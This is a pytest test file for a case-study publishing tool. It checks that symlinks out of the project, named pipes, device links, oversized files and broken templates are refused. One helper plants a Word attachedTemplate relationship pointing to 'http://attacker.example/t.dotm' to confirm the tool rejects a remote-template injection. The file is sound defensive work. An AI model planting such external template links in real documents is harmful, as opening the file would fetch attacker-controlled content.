"""Issue classes 1-3, 5, 7 and 8: nothing outside content/ and layouts/ is read into a pack,
no pipe or device is read, and `check` finds broken templates before the build does."""

from __future__ import annotations

import io
import os
import shutil
import zipfile
from pathlib import Path

import pytest

from casebook.build.manifest import Manifest
from casebook.check import check_project
from casebook.content import load_corpus
from casebook.diagnostics import ContentError
from casebook.document import compose_pack
from casebook.layout import load_layout
from casebook.packs import select_packs
from casebook.pdf import render_html
from casebook.site import render_site
from casebook.word import render_docx

ROOT = Path(__file__).parents[2]
MINI = ROOT / "tests" / "fixtures" / "mini" / "content"
LAYOUTS = ROOT / "layouts"
SECRET = "TOP SECRET outside the project"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99"
    b"=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
)
FIGURE_CASE = """\
---
title: A figure
places: [Newham]
page: 20
insight: strategic-planning
tags: [strategy, integration]
prompts: ["What would a chart like this show in your area?", "Who would draw it where you work?"]
---
![A chart of staff numbers](media/chart.png)
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    shutil.copytree(MINI, tmp_path / "project" / "content")
    shutil.copytree(LAYOUTS, tmp_path / "project" / "layouts")
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    return tmp_path / "project"


def check_messages(project: Path) -> list[str]:
    with pytest.raises(ContentError) as info:
        check_project(project / "content", project / "layouts")
    return [str(d).replace(str(project), "P") for d in info.value.diagnostics]


def all_cases(project: Path) -> object:
    corpus = load_corpus(project / "content")
    pack = next(p for p in select_packs(corpus) if p.id == "all-cases")
    return compose_pack(pack, corpus)


# --- 1: templates and the site stylesheet stay inside layouts/ --------------------------------


def test_a_pdf_template_linked_out_of_layouts_is_never_included(project: Path) -> None:
    pdf = project / "layouts" / "pdf"
    (pdf / "extra.html.j2").symlink_to(project.parent / "secret.txt")
    template = pdf / "pack.html.j2"
    template.write_text(
        template.read_text(encoding="utf-8").replace(
            "</body>", '{% include "extra.html.j2" %}</body>'
        ),
        encoding="utf-8",
    )
    layout = load_layout(project / "layouts")
    with pytest.raises(ContentError) as info:
        render_html(all_cases(project), layout)  # type: ignore[arg-type]
    assert str(info.value) == (f"{pdf / 'extra.html.j2'}:0: is a link to a file outside layouts/")
    assert check_messages(project) == [
        "P/layouts/pdf/extra.html.j2:0: is a link to a file outside layouts/"
    ]


def test_a_site_template_linked_out_of_layouts_is_refused(project: Path) -> None:
    site = project / "layouts" / "site"
    (site / "index.html.j2").unlink()
    (site / "index.html.j2").symlink_to(project.parent / "secret.txt")
    with pytest.raises(ContentError) as info:
        render_site(Manifest(), load_layout(project / "layouts"))
    assert SECRET not in str(info.value)
    assert str(info.value) == f"{site / 'index.html.j2'}:0: is a link to a file outside layouts/"


def test_a_site_stylesheet_linked_out_of_layouts_is_refused(project: Path) -> None:
    css = project / "layouts" / "site" / "site.css"
    css.unlink()
    css.symlink_to(project.parent / "secret.txt")
    with pytest.raises(ContentError) as info:
        render_site(Manifest(), load_layout(project / "layouts"))
    assert str(info.value) == f"{css}:0: is a link to a file outside layouts/"


# --- 2: linked content folders ------------------------------------------------------------------


def test_a_media_folder_linked_out_of_content_is_reported_and_never_read(project: Path) -> None:
    outside = project.parent / "elsewhere"
    outside.mkdir()
    (outside / "chart.png").write_bytes(PNG)
    media = project / "content" / "media"
    shutil.rmtree(media)
    media.symlink_to(outside)
    (project / "content" / "cases" / "newham-figure.md").write_text(FIGURE_CASE)
    assert check_messages(project) == [
        "P/content/cases/newham-figure.md:9: image 'media/chart.png' content/media is a link to "
        "a folder outside the content folder",
        "P/content/media:0: is a link to a folder outside the content folder; nothing in it is "
        "read",
    ]


def test_the_word_renderer_never_reads_a_figure_through_a_linked_media_folder(
    project: Path,
) -> None:
    (project / "content" / "media" / "chart.png").write_bytes(PNG)
    (project / "content" / "cases" / "newham-figure.md").write_text(FIGURE_CASE)
    document = all_cases(project)
    outside = project.parent / "elsewhere"
    shutil.move(project / "content" / "media", outside)
    (project / "content" / "media").symlink_to(outside)
    with pytest.raises(ContentError) as info:
        render_docx(document, load_layout(project / "layouts"), project / "content")  # type: ignore[arg-type]
    assert str(info.value) == (
        "media/chart.png:0: figure content/media is a link to a folder outside the content folder"
    )


def test_a_cases_folder_linked_out_of_content_is_reported(project: Path) -> None:
    cases = project / "content" / "cases"
    shutil.move(cases, project.parent / "cases")
    cases.symlink_to(project.parent / "cases")
    messages = check_messages(project)
    assert (
        "P/content/cases:0: is a link to a folder outside the content folder; nothing in it is read"
    ) in messages


def test_a_case_that_links_to_nothing_is_called_a_broken_link(project: Path) -> None:
    # It was reported as "file is missing", though the listing shows it there.
    ghost = project / "content" / "cases" / "newham-ghost.md"
    ghost.symlink_to(project / "content" / "old" / "newham-ghost.md")
    assert "P/content/cases/newham-ghost.md:0: is a link to a file that does not exist" in (
        check_messages(project)
    )


# --- 5: the Word template refers to nothing outside ---------------------------------------------


def _with_attached_template(path: Path) -> None:
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    rels = "word/_rels/settings.xml.rels"
    parts[rels] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="'
        b'http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    path.write_bytes(out.getvalue())


def test_a_reference_template_with_an_outside_link_is_refused_by_check_and_build(
    project: Path,
) -> None:
    template = project / "layouts" / "docx" / "reference.docx"
    _with_attached_template(template)
    expected = (
        "P/layouts/docx/reference.docx:0: the Word reference template refers to an outside file "
        "(attachedTemplate: http://attacker.example/t.dotm) that Word would fetch whenever a "
        "pack is opened; remove it (in Word: Developer > Document Template), or create it "
        "again with: python -m casebook.reference"
    )
    assert check_messages(project) == [expected]
    with pytest.raises(ContentError) as info:
        render_docx(all_cases(project), load_layout(project / "layouts"), project / "content")  # type: ignore[arg-type]
    assert str(info.value).replace(str(project), "P") == expected


# --- 7: check validates the templates the build uses ------------------------------------


def test_check_reports_a_broken_pdf_template_at_its_line(project: Path) -> None:
    template = project / "layouts" / "pdf" / "pack.html.j2"
    lines = template.read_text(encoding="utf-8").split("\n")
    lines[4] += " {% if %}"
    template.write_text("\n".join(lines), encoding="utf-8")
    assert check_messages(project) == [
        "P/layouts/pdf/pack.html.j2:5: Expected an expression, got 'end of statement block'"
    ]


def test_check_reports_a_reference_template_that_is_not_a_word_file(project: Path) -> None:
    (project / "layouts" / "docx" / "reference.docx").write_bytes(b"just text")
    assert check_messages(project) == [
        "P/layouts/docx/reference.docx:0: cannot open the Word reference template: it is not a "
        "Word .docx file (damaged, or saved in another format); restore it, or create it again "
        "with: python -m casebook.reference"
    ]


# --- 8: pipes, devices and huge files are never read ------------------------------------


@pytest.mark.parametrize(
    "where",
    [
        "layouts/brand.yaml",
        "content/cases/newham-pipe.md",
        "layouts/site/site.css",
        "layouts/fonts/NotoSans-Bold.ttf",
    ],
)
def test_a_named_pipe_is_refused_without_waiting(project: Path, where: str) -> None:
    path = project / where
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    messages = check_messages(project)
    assert (
        f"P/{where}:0: is not a plain file (a pipe, device or socket); only plain files are read"
        in messages
    )


def test_a_font_linked_to_a_file_outside_layouts_is_reported_by_check(project: Path) -> None:
    font = project / "layouts" / "fonts" / "NotoSans-Italic.ttf"
    outside = project.parent / "NotoSans-Italic.ttf"
    font.rename(outside)
    font.symlink_to(outside)
    assert check_messages(project) == [
        "P/layouts/fonts/NotoSans-Italic.ttf:0: is a link to a file outside layouts/"
    ]


def test_a_link_to_a_device_is_refused_before_reading(project: Path) -> None:
    (project / "content" / "cases" / "newham-zero.md").symlink_to("/dev/zero")
    assert check_messages(project) == [
        "P/content/cases/newham-zero.md:0: is a link to a file outside the content folder"
    ]


def test_a_case_file_just_over_its_limit_gives_its_size_in_bytes(project: Path) -> None:
    path = project / "content" / "cases" / "newham-big.md"
    path.write_bytes(b"x" * (512 * 1024 + 1))
    assert check_messages(project) == [
        "P/content/cases/newham-big.md:0: is 524,289 bytes, larger than the limit of 512 KiB"
    ]


def test_a_huge_case_file_is_refused_by_its_size_without_reading_it(project: Path) -> None:
    path = project / "content" / "cases" / "newham-huge.md"
    with path.open("wb") as handle:
        handle.truncate(8 * 1024**3)  # sparse: 8 GiB that take no disk space
    assert check_messages(project) == [
        "P/content/cases/newham-huge.md:0: is 8.0 GiB, larger than the limit of 512 KiB"
    ]
